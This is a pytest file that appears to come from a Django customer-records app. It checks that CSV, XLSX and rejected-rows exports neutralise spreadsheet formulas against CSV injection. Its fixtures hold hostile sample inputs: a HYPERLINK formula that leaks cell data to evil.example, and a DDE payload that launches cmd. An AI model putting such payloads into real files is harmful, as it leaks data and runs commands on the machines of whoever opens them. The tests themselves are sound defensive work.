"""Exports and rejected-rows files never carry a live spreadsheet formula (OWASP CSV injection)."""

import csv
import io

import pytest
from openpyxl import load_workbook

from guanxi.accounts.tests.factories import UserFactory
from guanxi.customers.exports import write_csv, write_xlsx
from guanxi.customers.imports import import_job_create, import_run
from guanxi.customers.models import Customer
from guanxi.customers.tests.factories import make_customer

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'


@pytest.fixture
def evil_customers(store_a):
    return [
        make_customer(store=store_a, name=EVIL, region="+1+cmd|' /C calc'!A0"),
        make_customer(store=store_a, name="@SUM(A1:A9)", occupation="-2+3"),
        make_customer(store=store_a, name="=1+1", occupation="＝1+1"),
        make_customer(store=store_a, name="王小明"),
    ]


def _admin():
    from guanxi.accounts.models import Role

    return UserFactory(username="boss", role=Role.ADMIN)


def test_csv_export_prefixes_formula_cells(evil_customers):
    handle = io.StringIO()
    assert write_csv(handle, user=_admin(), queryset=Customer.objects.order_by("pk")) == 4
    rows = list(csv.reader(io.StringIO(handle.getvalue())))
    names = [row[1] for row in rows[1:]]
    assert names == ["'" + EVIL, "'@SUM(A1:A9)", "'=1+1", "王小明"]
    assert rows[1][7] == "'+1+cmd|' /C calc'!A0"  # region
    assert rows[2][8] == "'-2+3"
    assert rows[3][8] == "'＝1+1"
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")), cell


def test_xlsx_export_writes_text_as_text_never_as_a_formula(evil_customers, tmp_path):
    path = tmp_path / "customers.xlsx"
    assert write_xlsx(str(path), user=_admin(), queryset=Customer.objects.order_by("pk")) == 4
    sheet = load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = [row[1].value for row in sheet.iter_rows(min_row=2)]
    assert names == ["'" + EVIL, "'@SUM(A1:A9)", "'=1+1", "王小明"]
    assert all(row[1].data_type == "s" for row in sheet.iter_rows(min_row=2))
    # numbers stay numbers
    assert isinstance(sheet.cell(row=2, column=1).value, int)


def test_rejected_rows_file_prefixes_formula_cells(tmp_path, store_a):
    path = tmp_path / "in.csv"
    with open(path, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(
            [["姓名", "手机", "门店"], [EVIL, "13800001111", "no-such-store"], ["-1+1", "13800002222", "no-such-store"]]
        )
    job = import_run(import_job_create(actor=None, path=str(path), dry_run=True))
    assert job.rejected_count == 2
    with open(job.rejected_file, encoding="utf-8-sig") as handle:
        rows = list(csv.reader(handle))
    assert [row[1] for row in rows[1:]] == ["'" + EVIL, "'-1+1"]
